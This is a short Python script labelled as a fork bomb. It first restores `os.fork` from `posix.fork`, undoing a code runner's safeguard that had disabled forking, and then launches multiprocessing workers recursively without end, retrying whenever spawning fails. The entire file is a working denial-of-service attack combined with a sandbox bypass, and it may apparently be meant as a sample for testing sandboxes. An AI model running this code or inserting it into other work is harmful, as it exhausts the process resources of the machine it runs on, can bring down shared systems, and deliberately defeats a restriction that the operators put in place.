# Fork bomb through multiprocessing, after undoing the runner's `os.fork = None`.
import os, posix, time, multiprocessing
os.fork = posix.fork
def spawn():
    while True:
        try:
            multiprocessing.Process(target=spawn).start()
        except Exception:
            time.sleep(0.01)
spawn()
